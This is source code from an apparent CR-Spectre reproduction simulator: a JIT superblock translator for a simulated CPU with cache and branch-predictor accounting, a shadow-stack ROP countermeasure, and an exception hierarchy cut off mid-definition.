                lines.append(f'{indent}counters["{name}"] += {value}')
        return lines

    def _dyn_flush_lines(self, indent):
        lines = []
        if self.has_mem:
            lines += [
                f"{indent}if _n_stall:",
                f'{indent}    counters["memory_stall_cycles"] += _n_stall',
                f"{indent}if _n_tlb:",
                f"{indent}    _dtlb.hits += _n_tlb",
            ]
            if self.inline_l1:
                lines += [
                    f"{indent}if _n_l1r or _n_l1w:",
                    f"{indent}    _h = _n_l1r + _n_l1w",
                    f"{indent}    _l1stats.accesses += _h",
                    f"{indent}    _l1stats.hits += _h",
                    f"{indent}    if _n_l1r:",
                    f"{indent}        _l1stats.read_accesses += _n_l1r",
                    f"{indent}    if _n_l1w:",
                    f"{indent}        _l1stats.write_accesses += _n_l1w",
                ]
        if self.inline_i:
            lines += [
                f"{indent}if _n_ihit:",
                f"{indent}    _i1stats.accesses += _n_ihit",
                f"{indent}    _i1stats.read_accesses += _n_ihit",
                f"{indent}    _i1stats.hits += _n_ihit",
            ]
        return lines

    def _writeback_lines(self, indent):
        return [f"{indent}regs[{i}] = r{i}" for i in sorted(self.writes)]

    # -- fetch locality ----------------------------------------------
    def _icharge_lines(self, pc, indent):
        """Statements charging an instruction-fetch line access.

        With an LRU untraced L1I the hit path is probed inline — the
        set index and tag are compile-time constants of *pc*, so a hit
        is one dict probe plus the LRU clock bump, with the stats
        batched into ``_n_ihit``.  A miss falls back to the hierarchy
        (whose own probe repeats the lookup and takes the fill path).
        """
        stall = ("_n_stall += _x" if self.has_mem
                 else 'counters["memory_stall_cycles"] += _x')
        if not self.inline_i:
            return [
                f"{indent}_x = _icache_fast({pc})[0] - {self.l1_latency}",
                f"{indent}if _x > 0:",
                f"{indent}    cycles += _x",
                f"{indent}    {stall}",
            ]
        i_state = self.i_state
        line = pc >> i_state["line_shift"]
        si = line & i_state["set_mask"]
        tag = line >> i_state["index_shift"]
        return [
            f"{indent}_w = _i1maps[{si}].get({tag})",
            f"{indent}if _w is None:",
            f"{indent}    _x = _icache_fast({pc})[0] - {self.l1_latency}",
            f"{indent}    if _x > 0:",
            f"{indent}        cycles += _x",
            f"{indent}        {stall}",
            f"{indent}else:",
            f"{indent}    _ck = _i1clocks[{si}] + 1",
            f"{indent}    _i1clocks[{si}] = _ck",
            f"{indent}    _i1stamps[{si}][_w] = _ck",
            f"{indent}    _n_ihit += 1",
        ]

    def _emit_fetch(self, index, pc):
        """I-cache line / I-TLB page charges, as the fast loop does them.

        The first-ever instruction checks against the live locality
        state; after that check ``last_iline``/``last_ipage`` equal the
        entry's line/page whichever way it went, so every interior
        instruction's locality is a compile-time constant
        (``cur_line``/``cur_page``) even across followed jumps: a
        crossing emits an unconditional charge, a non-crossing emits
        nothing.  The unroll loop's body re-emission starts from the
        peel's end-state, which equals its own end-state (the body is
        a closed cycle), so every iteration's transitions line up.
        """
        line = pc >> 6
        page = pc >> 12
        if self.cur_line is None:
            self.emit(f"if {line} != last_iline:")
            self.emit(f"    last_iline = {line}")
            for stmt in self._icharge_lines(pc, "    "):
                self.emit(stmt)
            self.emit(f"if {page} != last_ipage:")
            self.emit(f"    last_ipage = {page}")
            self.emit(f"    _itlb_access({pc})")
            self.cur_line = line
            self.cur_page = page
            return
        if line != self.cur_line:
            self.emit(f"last_iline = {line}")
            for stmt in self._icharge_lines(pc, ""):
                self.emit(stmt)
            self.cur_line = line
        if page != self.cur_page:
            self.emit(f"last_ipage = {page}")
            self.emit(f"_itlb_access({pc})")
            self.cur_page = page

    # -- data-side inline paths --------------------------------------
    def _emit_dtlb(self, addr):
        self.emit(f"_pg = {addr} >> 12")
        self.emit("if _pg == _tlb_last:")
        self.emit("    _n_tlb += 1")
        self.emit("else:")
        self.emit(f"    _dtlb_access({addr})")
        self.emit("    _tlb_last = _pg")

    def _emit_l1d(self, addr, is_write):
        lat = self.l1_latency
        flag = "True" if is_write else "False"
        if not self.inline_l1:
            self.emit(f"_x = _data_fast({addr}, {flag})[0] - {lat}")
            self.emit("if _x > 0:")
            self.emit("    cycles += _x")
            self.emit("    _n_stall += _x")
            return
        d_state = self.d_state
        mask = d_state["set_mask"]
        ishift = d_state["index_shift"]
        self.emit(f"_ln = {addr} >> {d_state['line_shift']}")
        self.emit(f"_si = _ln & {mask}")
        self.emit(f"_w = _l1maps[_si].get(_ln >> {ishift})")
        self.emit("if _w is None:")
        self.emit(f"    _x = _data_fast({addr}, {flag})[0] - {lat}")
        self.emit("    if _x > 0:")
        self.emit("        cycles += _x")
        self.emit("        _n_stall += _x")
        self.emit("else:")
        self.emit("    _ck = _l1clocks[_si] + 1")
        self.emit("    _l1clocks[_si] = _ck")
        self.emit("    _l1stamps[_si][_w] = _ck")
        if is_write:
            self.emit("    _l1dirty[_si][_w] = True")
            self.emit("    _n_l1w += 1")
        else:
            self.emit("    _n_l1r += 1")

    def _emit_mem_sync(self, pc):
        """Flush batched cycles and mark *pc* as the live fault point.

        ``_pi`` is the mem-op occurrence *within the current copy*; the
        fault handler adds ``_it`` full copies on top (the unroll loop
        replays the same occurrence sequence every iteration).
        """
        self.flush_cycles()
        self.emit(f"pc = {pc}")
        if self.loop_mode:
            self.mem_occ += 1
            self.emit(f"_pi = {self.mem_occ}")
        else:
            self.emit(f"_pi = {len(self.partial_list)}")
            self.partial_list.append(tuple(self.counts))

    def _exit_call(self, counts, next_pc, k):
        """One-line call committing through :func:`_flush_exit`.

        Registers the exit's constant row (within-copy counter deltas,
        resumption pc, retired count, registers written so far, and the
        per-copy scaling constants) in the ``_exits`` table and returns
        the call expression.  A single line per exit keeps generated
        source — and therefore ``compile()`` time — small even when
        loop unrolling repeats the exit every iteration.
        """
        j = len(self.exits)
        widx = tuple(sorted(self.writes))
        self.exits.append((
            tuple(counts), next_pc, k, widx,
            self.copy_counts, len(self.entries),
        ))
        it_expr = "_it" if self.loop_mode else "0"
        vals = "(" + "".join(f"r{i}, " for i in widx) + ")"
        call = (f"_fx(counters, regs, _exits, {j}, {it_expr}, cycles, "
                f"last_iline, last_ipage, {vals}")
        if self.has_mem or self.inline_i:
            call += ", _n_stall, _n_tlb" if self.has_mem else ", 0, 0"
            call += (", _n_l1r, _n_l1w" if self.has_mem and self.inline_l1
                     else ", 0, 0")
            call += ", _n_ihit" if self.inline_i else ", 0"
            call += ", _dtlb" if self.has_mem else ", None"
            call += (", _l1stats" if self.has_mem and self.inline_l1
                     else ", None")
            call += ", _i1stats" if self.inline_i else ""
        return "return " + call + ")"

    def _emit_deopt_check(self, index, pc):
        """Post-store generation check: SMC deoptimises mid-block."""
        if index == len(self.entries) - 1 and self.copies == 1:
            return  # nothing left to run stale; the normal exit syncs
        # A store always falls through sequentially, so the resumption
        # point is the next entry's pc (== pc + 4) — or, for the last
        # entry of an unrolled body, the next copy's re-entry at the
        # block head (the remaining copies are the stale code).
        if index == len(self.entries) - 1:
            next_pc = self.entry_pc
        else:
            next_pc = self.entries[index + 1][0]
        self.emit(f"if _eng.gen != {self.engine.gen}:")
        self.emit("    " + self._exit_call(self.counts, next_pc, index + 1))

    # -- conditional branches (side exits) ----------------------------
    def _emit_side_exit(self, counts, next_pc, k):
        """Indented full flush + return, used by both branch exits."""
        self.emit("    " + self._exit_call(counts, next_pc, k))

    def _emit_branch(self, op, rs1, rs2, imm, index, pc):
        """Conditional branch with compiled side exits.

        The trace continues along the predicted-hot direction (see
        :func:`_trace_taken`); the other direction — and *any*
        mispredict — takes a side exit that flushes every batched
        piece of state and returns.  A mispredict additionally parks
        the wrong-path pc in the engine's hand-off cell so the
        dispatcher runs ``Cpu._mispredict`` *after* the closure has
        committed — at that point the PMU, cache and register state
        are exactly what the fast loop has when it calls
        ``_mispredict`` mid-iteration, so the speculative wrong-path
        walk (the Spectre machinery) observes an identical machine.
        """
        # Branches are cycle sync points: flush pending costs so every
        # exit (and the dispatcher's _mispredict) sees current cycles.
        self.flush_cycles()
        self.counts[6] += 1
        self.counts[7] += 1
        self.has_branch = True
        a = self.reg(rs1)
        b = self.reg(rs2)
        if op == _BEQ:
            cond = f"{a} == {b}"
        elif op == _BNE:
            cond = f"{a} != {b}"
        elif op == _BLTU:
            cond = f"{a} < {b}"
        elif op == _BGEU:
            cond = f"{a} >= {b}"
        else:
            for line in _signed_lines("_sa", a, ""):
                self.emit(line)
            for line in _signed_lines("_sb", b, ""):
                self.emit(line)
            cond = "_sa < _sb" if op == _BLT else "_sa >= _sb"
        taken_pc = (pc + imm) & MASK32
        fall_pc = (pc + INSTRUCTION_SIZE) & MASK32
        k = index + 1
        self.emit(f"_t = {cond}")
        self.emit(f"_p = _predc({pc})")
        self.emit(f"_m = _resc({pc}, _p, _t)")
        taken_counts = list(self.counts)
        taken_counts[8] += 1
        if _trace_taken(imm):
            # Hot path: taken (loop backedge).  Exit on not-taken; a
            # not-taken mispredict means predicted-taken, so the wrong
            # path is the target.
            self.emit("if not _t:")
            self.emit("    if _m:")
            self.emit(f"        _wp[0] = {taken_pc}")
            self._emit_side_exit(self.counts, fall_pc, k)
            # Taken but mispredicted: exit too (the dispatcher must
            # speculate down the fall-through before anything newer
            # retires); re-entry continues at the target.
            self.emit("if _m:")
            self.emit(f"    _wp[0] = {fall_pc}")
            self._emit_side_exit(taken_counts, taken_pc, k)
            self.counts[8] += 1  # the surviving path is taken
        else:
            # Hot path: fall-through (forward branch).
            self.emit("if _t:")
            self.emit("    if _m:")
            self.emit(f"        _wp[0] = {fall_pc}")
            self._emit_side_exit(taken_counts, taken_pc, k)
            self.emit("if _m:")
            self.emit(f"    _wp[0] = {taken_pc}")
            self._emit_side_exit(self.counts, fall_pc, k)

    # -- per-opcode bodies -------------------------------------------
    def _emit_alu(self, op, rd, rs1, rs2, imm):
        self.counts[1] += 1
        if op == _MUL or op == _MULI:
            self.counts[2] += 1
            self.add_cycles(self.mul_extra)
        elif op == _DIV or op == _MOD:
            self.counts[2] += 1
            self.add_cycles(self.div_extra)
        if rd == 0:
            return  # the fast loop skips the computation entirely
        if op == _LI:
            self.emit(f"{self.wreg(rd)} = {imm & MASK32}")
            return
        # Sources are recorded (``reg``) before the destination
        # (``wreg``) so the read-before-write analysis sees an
        # instruction like ``add r4, r4, r5`` as needing r4 loaded.
        a = self.reg(rs1)
        if op == _MOV:
            self.emit(f"{self.wreg(rd)} = {a}")
            return
        if _ADDI <= op <= _SLTI:
            dst = self.wreg(rd)
            if op == _ADDI:
                self.emit(f"{dst} = ({a} + {imm}) & 4294967295")
            elif op == _MULI:
                self.emit(f"{dst} = ({a} * {imm}) & 4294967295")
            elif op == _ANDI:
                self.emit(f"{dst} = {a} & {imm & MASK32}")
            elif op == _ORI:
                self.emit(f"{dst} = {a} | {imm & MASK32}")
            elif op == _XORI:
                self.emit(f"{dst} = {a} ^ {imm & MASK32}")
            elif op == _SHLI:
                self.emit(f"{dst} = ({a} << {imm & 31}) & 4294967295")
            elif op == _SHRI:
                self.emit(f"{dst} = {a} >> {imm & 31}")
            elif op == _SRAI:
                for line in _signed_lines("_sa", a, ""):
                    self.emit(line)
                self.emit(f"{dst} = (_sa >> {imm & 31}) & 4294967295")
            else:  # SLTI compares against the raw (signed) immediate
                for line in _signed_lines("_sa", a, ""):
                    self.emit(line)
                self.emit(f"{dst} = 1 if _sa < {imm} else 0")
            return
        b = self.reg(rs2)
        dst = self.wreg(rd)
        if op == _ADD:
            self.emit(f"{dst} = ({a} + {b}) & 4294967295")
        elif op == _SUB:
            self.emit(f"{dst} = ({a} - {b}) & 4294967295")
        elif op == _MUL:
            self.emit(f"{dst} = ({a} * {b}) & 4294967295")
        elif op == _AND:
            self.emit(f"{dst} = {a} & {b}")
        elif op == _OR:
            self.emit(f"{dst} = {a} | {b}")
        elif op == _XOR:
            self.emit(f"{dst} = {a} ^ {b}")
        elif op == _SHL:
            self.emit(f"{dst} = ({a} << ({b} & 31)) & 4294967295")
        elif op == _SHR:
            self.emit(f"{dst} = {a} >> ({b} & 31)")
        elif op == _SRA:
            for line in _signed_lines("_sa", a, ""):
                self.emit(line)
            self.emit(f"{dst} = (_sa >> ({b} & 31)) & 4294967295")
        elif op == _SLT:
            for line in _signed_lines("_sa", a, ""):
                self.emit(line)
            for line in _signed_lines("_sb", b, ""):
                self.emit(line)
            self.emit(f"{dst} = 1 if _sa < _sb else 0")
        elif op == _SLTU:
            self.emit(f"{dst} = 1 if {a} < {b} else 0")
        elif op == _DIV:
            self.emit(f"if {b} == 0:")
            self.emit(f"    {dst} = 4294967295")
            self.emit("else:")
            for line in _signed_lines("_sa", a, "    "):
                self.emit(line)
            for line in _signed_lines("_sb", b, "    "):
                self.emit(line)
            self.emit("    _q = abs(_sa) // abs(_sb)")
            self.emit("    if (_sa < 0) != (_sb < 0):")
            self.emit("        _q = -_q")
            self.emit(f"    {dst} = _q & 4294967295")
        elif op == _MOD:
            self.emit(f"if {b} == 0:")
            self.emit(f"    {dst} = {a}")
            self.emit("else:")
            for line in _signed_lines("_sa", a, "    "):
                self.emit(line)
            for line in _signed_lines("_sb", b, "    "):
                self.emit(line)
            self.emit("    _q = abs(_sa) // abs(_sb)")
            self.emit("    if (_sa < 0) != (_sb < 0):")
            self.emit("        _q = -_q")
            self.emit(f"    {dst} = (_sa - _sb * _q) & 4294967295")
        else:  # pragma: no cover - every RRR opcode is handled above
            raise AssertionError(f"unhandled ALU opcode {op:#04x}")

    def _emit_load(self, op, rd, rs1, imm, pc):
        self.counts[3] += 1
        self._emit_mem_sync(pc)
        a = self.reg(rs1)
        self.emit(f"_a = ({a} + {imm}) & 4294967295")
        self.emit("_v = _lw(_a)" if op == _LW else "_v = _lb(_a)")
        self._emit_dtlb("_a")
        self._emit_l1d("_a", False)
        if rd:
            self.emit(f"{self.wreg(rd)} = _v & 4294967295")

    def _emit_store(self, op, rs1, rs2, imm, index, pc):
        self.counts[4] += 1
        self._emit_mem_sync(pc)
        a = self.reg(rs1)
        value = self.reg(rs2)
        self.emit(f"_a = ({a} + {imm}) & 4294967295")
        self.emit(f"_sw(_a, {value})" if op == _SW
                  else f"_sbyte(_a, {value})")
        self._emit_dtlb("_a")
        self._emit_l1d("_a", True)
        self._emit_deopt_check(index, pc)

    def _emit_push(self, rs1, index, pc):
        self.counts[5] += 1
        self._emit_mem_sync(pc)
        value = self.reg(rs1)
        self.reg(13)  # sp is read (decremented) before being written
        sp = self.wreg(13)
        # sp moves *before* the store, as in step()/the fast loop — a
        # faulting push leaves the decremented sp behind.
        self.emit(f"{sp} = ({sp} - 4) & 4294967295")
        self.emit(f"_sw({sp}, {value})")
        self._emit_dtlb(sp)
        self._emit_l1d(sp, True)
        self._emit_deopt_check(index, pc)

    def _emit_pop(self, rd, index, pc):
        self.counts[5] += 1
        self._emit_mem_sync(pc)
        self.reg(13)  # sp is read (load + increment) before the write
        sp = self.wreg(13)
        self.emit(f"_v = _lw({sp})")
        self._emit_dtlb(sp)
        self._emit_l1d(sp, False)
        self.emit(f"{sp} = ({sp} + 4) & 4294967295")
        if rd:
            self.emit(f"{self.wreg(rd)} = _v & 4294967295")

    # -- assembly ------------------------------------------------------
    def _emit_body(self):
        """Emit one copy of the body (the peel, or the loop's body)."""
        for index, (pc, entry) in enumerate(self.entries):
            op, rd, rs1, rs2, imm = entry
            self._emit_fetch(index, pc)
            self.counts[0] += 1
            self.add_cycles(self.base_cost)
            if op == _NOP:
                continue
            if op == _JMP:
                # Followed at translation time; the runtime cost is the
                # counter bump (the next instruction's fetch emission
                # handles the target's line/page locality).
                self.counts[6] += 1
            elif _BEQ <= op <= _BGEU:
                self._emit_branch(op, rs1, rs2, imm, index, pc)
            elif op == _LW or op == _LB:
                self._emit_load(op, rd, rs1, imm, pc)
            elif op == _SW or op == _SB:
                self._emit_store(op, rs1, rs2, imm, index, pc)
            elif op == _PUSH:
                self._emit_push(rs1, index, pc)
            elif op == _POP:
                self._emit_pop(rd, index, pc)
            else:
                self._emit_alu(op, rd, rs1, rs2, imm)
        self.flush_cycles()

    def build(self):
        """Emit the peel (+ unroll loop), then assemble the source."""
        self._emit_body()
        self.copy_counts = tuple(self.counts)
        if self.copies > 1:
            # The body closed a cycle back to the entry pc, so the
            # peel's end locality state equals its start state and the
            # body can simply re-run: one compiled copy under a Python
            # loop.  Retired-count bookkeeping is within-copy plus
            # ``_it`` full copies (exits and the fault path scale by
            # the per-copy constants).
            self.loop_mode = True
            self.counts = [0] * len(_COUNTER_NAMES)
            self.mem_occ = 0
            self.emit(f"for _it in range(1, {self.copies}):")
            start = len(self.lines)
            self._emit_body()
            if self.copy_counts != tuple(self.counts):  # pragma: no cover
                raise AssertionError("unroll body diverged from peel")
            self.lines[start:] = [
                "    " + stmt for stmt in self.lines[start:]
            ]
        return self._assemble()

    def _bindings(self):
        """Name -> object defaults the closure binds at definition."""
        cpu = self.cpu
        bound = {
            "_state": cpu.state,
            "_cpu": cpu,
            "_eng": self.engine,
        }
        if self.has_mem:
            memory = cpu.memory
            bound.update({
                "_lw": memory.load_word,
                "_lb": memory.load_byte,
                "_sw": memory.store_word,
                "_sbyte": memory.store_byte,
                "_dtlb": cpu.dtlb,
                "_dtlb_access": cpu.dtlb.access,
                "_data_fast": cpu.caches.data_access_fast,
            })
            if self.inline_l1:
                d_state = self.d_state
                bound.update({
                    "_l1maps": d_state["maps"],
                    "_l1clocks": d_state["clocks"],
                    "_l1stamps": d_state["stamps"],
                    "_l1dirty": d_state["dirty"],
                    "_l1stats": d_state["stats"],
                })
        if self.has_mem:
            bound["_partials"] = tuple(self.partial_list)
            if self.copies > 1:
                bound["_fullc"] = self.copy_counts
        if self.exits:
            bound["_fx"] = _flush_exit
            bound["_exits"] = tuple(self.exits)
        if self.inline_i:
            i_state = self.i_state
            bound.update({
                "_i1maps": i_state["maps"],
                "_i1clocks": i_state["clocks"],
                "_i1stamps": i_state["stamps"],
                "_i1stats": i_state["stats"],
            })
        if self.has_branch:
            predictor = cpu.predictor
            bound.update({
                "_predc": predictor.predict_conditional,
                "_resc": predictor.resolve_conditional,
                "_wp": self.engine.wp,
            })
        bound.update({
            "_icache_fast": cpu.caches.instruction_access_fast,
            "_itlb_access": cpu.itlb.access,
        })
        return bound

    def _assemble(self):
        n = len(self.entries) * self.copies
        exit_pc = self.exit_pc
        bound = self._bindings()
        params = ["regs", "counters", "cycles", "last_iline", "last_ipage"]
        params += [f"{name}={name}" for name in bound]
        src = [f"def _blk({', '.join(params)}):"]
        if self.has_mem:
            # The fault path writes back every written register, so all
            # of them must be bound, even write-only ones.
            prologue_regs = self.touched
        else:
            # No fault/deopt exits: write-only registers never need
            # their stale values, and ``pc`` is never consulted.
            prologue_regs = self.need_load
        for i in sorted(prologue_regs):
            src.append(f"    r{i} = regs[{i}]")
        if self.inline_i:
            src.append("    _n_ihit = 0")
        if self.has_mem:
            src.append(f"    pc = {self.entry_pc}")
            src.append("    _pi = 0")
            if self.copies > 1:
                src.append("    _it = 0")
            src.append("    _n_stall = 0")
            src.append("    _n_tlb = 0")
            src.append("    _tlb_last = _dtlb._last_page")
            if self.inline_l1:
                src.append("    _n_l1r = 0")
                src.append("    _n_l1w = 0")
            # Fault path: flush partial progress keyed by the live pc,
            # sync the object, re-raise.  The run() dispatcher re-reads
            # the synced object so its finally-clause writes the same
            # values back.
            src.append("    try:")
            src += [f"        {line}" for line in self.lines]
            src.append("    except BaseException:")
            src.append("        _t = _partials[_pi]")
            if self.copies > 1:
                # Absolute retired counts = the within-copy prefix at
                # the live mem-op occurrence plus ``_it`` full copies.
                src.append("        if _it:")
                src.append("            _t = tuple(_p + _it * _f for "
                           "_p, _f in zip(_t, _fullc))")
            for i, name in enumerate(_COUNTER_NAMES):
                src.append(f"        if _t[{i}]:")
                src.append(f'            counters["{name}"] += _t[{i}]')
            src += self._dyn_flush_lines("        ")
            src += self._writeback_lines("        ")
            src.append("        _state.pc = pc")
            src.append("        _cpu.cycles = cycles")
            src.append("        _cpu._last_iline = last_iline")
            src.append("        _cpu._last_ipage = last_ipage")
            src.append("        raise")
        else:
            # ALU-only blocks cannot fault; with no writeback having
            # happened, an asynchronous exception rolls the whole block
            # back (the dispatcher's pc still points at the entry).
            src += [f"    {line}" for line in self.lines]
        totals = [value * self.copies for value in self.copy_counts]
        src += self._counter_flush_lines(totals, "    ")
        src += self._dyn_flush_lines("    ")
        src += self._writeback_lines("    ")
        src.append(f"    return {exit_pc}, {n}, cycles, "
                   "last_iline, last_ipage")
        return "\n".join(src) + "\n", bound, exit_pc


class SuperblockEngine:
    """Per-core block cache + heat table + translator.

    ``blocks`` maps an entry pc to either a ``(closure, length,
    exit_pc)`` tuple or ``0`` for entries that translation rejected
    (terminator first, or a run shorter than :data:`MIN_LENGTH`) — the
    0 sentinel keeps rejected pcs to a single dict probe per dispatch.
    """

    #: Entry-pc executions before translation triggers.  Deterministic
    #: (a pure visit count — no wall clock), so translation decisions
    #: are identical across hosts and backends.
    HOT_THRESHOLD = 16
    #: Runs shorter than this are not worth a call's overhead.
    MIN_LENGTH = 3
    #: Longest block; far below the watchdog stride (1024) so a block
    #: always fits inside one charge window.
    MAX_LENGTH = 64

    def __init__(self, cpu):
        self.cpu = cpu
        self.blocks = {}
        self.heat = {}
        #: mispredict hand-off: a closure's side exit parks the
        #: wrong-path pc here and the dispatcher calls
        #: ``Cpu._mispredict`` after the block commits.
        self.wp = [None]
        #: bumped by every flush; closures bake the value they were
        #: compiled under and compare after each store (SMC deopt).
        self.gen = 0
        self.stats = {
            "translated": 0,
            "rejected": 0,
            "instructions_translated": 0,
            "invalidations": 0,
            "code_writes": 0,
        }

    # -- invalidation --------------------------------------------------
    def flush(self):
        """Drop every block (in place — the dispatcher holds live refs)."""
        self.blocks.clear()
        self.heat.clear()
        self.gen += 1
        self.stats["invalidations"] += 1

    def on_code_write(self, address, size):
        """Memory reported a store into an executable segment."""
        self.stats["code_writes"] += 1
        self.flush()

    # -- translation ---------------------------------------------------
    def _collect(self, pc):
        """The translatable superblock at *pc*: body, unroll, exit pc.

        Returns ``(entries, copies, exit_pc)`` where entries are
        ``(pc, decoded)`` pairs for ONE body copy.  Collection walks
        sequentially, follows direct ``JMP``s to their constant
        targets, traces through conditional branches along the
        predicted direction, and stops at the first terminator or at
        :data:`MAX_LENGTH`.  A trace that returns to its entry pc is a
        loop: *copies* says how many complete bodies fit under
        :data:`MAX_LENGTH` — the translator compiles the body once and
        unrolls it with a counted loop, amortising the closure's
        call/flush overhead over more retired instructions (side exits
        keep every copy's branches architecturally exact).
        Decode-cache misses are decoded fresh but *not* cached:
        translation observes the code, the dispatcher owns the cache.
        """
        dcache = self.cpu._decode_cache
        memory = self.cpu.memory
        entries = []
        p = pc
        while len(entries) < self.MAX_LENGTH:
            if p == pc and entries:
                # The trace closed back on its entry: a loop.
                return entries, self.MAX_LENGTH // len(entries), p
            entry = dcache.get(p)
            if entry is None:
                try:
                    instruction = decode(memory.fetch(p, INSTRUCTION_SIZE))
                except (MemoryFault, CpuFault, EncodingError):
                    break
                entry = (int(instruction.opcode), instruction.rd,
                         instruction.rs1, instruction.rs2,
                         instruction.imm)
            op = entry[0]
            if op == _JMP:
                entries.append((p, entry))
                p = (p + entry[4]) & MASK32
                continue
            if _BEQ <= op <= _BGEU:
                entries.append((p, entry))
                if _trace_taken(entry[4]):
                    p = (p + entry[4]) & MASK32
                else:
                    p = (p + INSTRUCTION_SIZE) & MASK32
                continue
            if not _translatable(op):
                break
            entries.append((p, entry))
            nxt = p + INSTRUCTION_SIZE
            if nxt > MASK32:
                p = nxt & MASK32
                break
            p = nxt
        return entries, 1, p

    def translate(self, pc):
        """Translate the run at *pc*; returns the new ``blocks`` value."""
        entries, copies, exit_pc = self._collect(pc)
        length = len(entries) * copies
        if length < self.MIN_LENGTH:
            self.heat.pop(pc, None)
            self.blocks[pc] = 0
            self.stats["rejected"] += 1
            return 0
        source, bound, exit_pc = _Codegen(
            self.cpu, self, pc, entries, copies, exit_pc
        ).build()
        namespace = dict(bound)
        code = _CODE_CACHE.get(source)
        if code is None:
            if len(_CODE_CACHE) >= _CODE_CACHE_MAX:
                _CODE_CACHE.clear()
            code = compile(source, f"<superblock {pc:#x}>", "exec")
            _CODE_CACHE[source] = code
        exec(code, namespace)
        block = (namespace["_blk"], length, exit_pc)
        self.blocks[pc] = block
        # Interior pcs are no longer dispatched on the fall-through
        # path; drop their warmup heat so only real (branch-target)
        # entries re-accumulate it.
        for interior_pc, _ in entries:
            self.heat.pop(interior_pc, None)
        self.stats["translated"] += 1
        self.stats["instructions_translated"] += length
        return block
