"""Shadow stack countermeasure (paper, Section IV).

The paper suggests "a shadow memory — only accessible to the operating
system — to compare and correct when return address manipulation takes
place".  This model keeps a hardware-private copy of every pushed return
address; a ``ret`` whose architectural target disagrees with the shadow
copy raises :class:`ShadowStackViolation`, killing the ROP chain at its
first gadget.
"""

from repro.errors import ShadowStackViolation


class ShadowStack:
    """Hardware-private return-address stack."""

    def __init__(self, depth=4096):
        self.depth = depth
        self._stack = []
        self.violations_detected = 0

    def on_call(self, return_address):
        if len(self._stack) >= self.depth:
            # Deep recursion: oldest frames lose protection (documented
            # real-world behaviour of bounded shadow stacks).
            self._stack.pop(0)
        self._stack.append(return_address)

    def on_return(self, target):
        """Validate a return; raises on mismatch."""
        if not self._stack:
            # Returns past the protected depth cannot be checked.
            return
        expected = self._stack.pop()
        if expected != target:
            self.violations_detected += 1
            raise ShadowStackViolation(
                f"return to {target:#010x} but shadow stack expected "
                f"{expected:#010x} (ROP suspected)"
            )

    @property
    def occupancy(self):
        return len(self._stack)

    def reset(self):
        self._stack.clear()
