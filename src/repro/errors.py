"""Exception hierarchy for the CR-Spectre reproduction.

Every error raised by the simulator, the toolchain, the attack layer or the
HID layer derives from :class:`ReproError`, so callers can catch one base
class at API boundaries.
"""


class ReproError(Exception):
    """Base class for all errors raised by this package."""


class TransientError(ReproError):
    """An error a retry can plausibly fix (noise, mis-calibration, ...).

    The resilience layer's retry decorator re-attempts operations that
    raise a :class:`TransientError` subclass; everything else is treated
    as fatal and propagates immediately.
    """


class FatalError(ReproError):
    """An error no amount of retrying will fix (bad config, bad input)."""


def is_transient(exc):
    """True when *exc* (or any link of its cause chain) is retryable."""
    while exc is not None:
        if isinstance(exc, TransientError):
            return True
        exc = exc.__cause__
    return False


class AssemblerError(ReproError):
    """Raised when assembly source cannot be parsed or encoded."""

    def __init__(self, message, line_number=None, line=None):
        location = "" if line_number is None else f" (line {line_number}: {line!r})"
        super().__init__(f"{message}{location}")
        self.line_number = line_number
        self.line = line


class EncodingError(ReproError):
    """Raised when an instruction cannot be encoded or decoded."""


class MemoryFault(ReproError):
    """Base class for simulated memory faults."""

    def __init__(self, message, address=None):
        if address is not None:
            message = f"{message} at address {address:#010x}"
        super().__init__(message)
        self.address = address


class SegmentationFault(MemoryFault):
    """Access to an unmapped address."""


class ProtectionFault(MemoryFault):
    """Access violating page permissions (e.g. executing a DEP page)."""


class AlignmentFault(MemoryFault):
    """Misaligned word access."""


class CpuFault(ReproError):
    """Raised for architectural faults during execution."""


class ShadowStackViolation(CpuFault):
    """Return address mismatch detected by the shadow-stack countermeasure."""


class PrivilegeFault(CpuFault):
    """Unprivileged use of a restricted instruction (e.g. clflush)."""


class StackCanaryViolation(CpuFault):
    """Stack canary corrupted; the process aborts before returning."""


class KernelError(ReproError):
    """Raised by the simulated OS layer (bad syscall, missing binary...)."""


class LoaderError(KernelError):
    """Raised when a program cannot be loaded or relocated."""


class AttackError(ReproError):
    """Raised by the attack toolchain (no gadget found, bad payload...)."""


class GadgetNotFoundError(AttackError):
    """A required ROP gadget does not exist in the scanned image."""


class HidError(ReproError):
    """Raised by the HID layer (bad dataset, untrained classifier...)."""


class BudgetExceededError(ReproError):
    """A watchdog's instruction/quantum budget was exhausted.

    Raised instead of hanging when an injected ROP chain loops forever or
    an adaptive mutation never converges.  Deliberately *not* transient:
    retrying the same run would burn the same budget again; callers must
    either raise the budget or treat the run as lost.
    """

    def __init__(self, message, consumed=None, budget=None, label=None):
        if budget is not None:
            message = (
                f"{message} (consumed {consumed} of {budget} instructions"
                + (f" in {label!r}" if label else "") + ")"
            )
        super().__init__(message)
        self.consumed = consumed
        self.budget = budget
        self.label = label


class CalibrationError(AttackError, TransientError):
    """Covert-channel calibration produced inseparable hit/miss timings."""

    def __init__(self, message, calibration=None):
        super().__init__(message)
        self.calibration = calibration


class CovertChannelError(AttackError, TransientError):
    """A covert-channel read failed or returned garbage (noise burst)."""


class ClassifierConvergenceError(HidError, TransientError):
    """A detector's training loop failed to converge on this draw."""


class SampleCorruptionError(HidError, TransientError):
    """HPC sampling lost or garbled too many windows to proceed."""


class CheckpointError(ReproError):
    """A sweep checkpoint file is unreadable or structurally invalid."""


class WorkerCrashError(TransientError):
    """A sweep worker process died mid-cell (crash, OOM-kill, _exit).

    Transient by design: the cell itself is deterministic, so a retry on
    a fresh worker can succeed; if the crash reproduces, the pool
    backend converts the cell into a failed-cell outcome after its
    retry budget and the sweep degrades into a partial report.
    """


class DistError(ReproError):
    """Base class for distributed-sweep (``repro.exec.dist``) errors."""


class FrameError(DistError, TransientError):
    """A protocol frame was truncated, corrupted or oversized.

    Transient: the connection that produced it is torn down and the
    peer reconnects; the frame's payload is re-sent or its lease is
    revoked and requeued, so one garbled frame never loses work.
    """


class ProtocolError(DistError):
    """A structurally valid frame carried a message the peer cannot
    honour (unknown type, bad handshake, unresolvable cell body)."""


class ServerUnreachableError(DistError):
    """The dist job server could not be reached within the deadline.

    Raised only when graceful degradation to the local warm-pool
    backend is disabled (``--no-dist-fallback``); maps to its own CLI
    exit code so orchestrators can tell "the service is down" from
    "the sweep is wrong".
    """


class LeaseExpiredError(DistError, TransientError):
    """A worker's lease lapsed (missed heartbeats, dropped connection).

    Transient by the same argument as :class:`WorkerCrashError`: cells
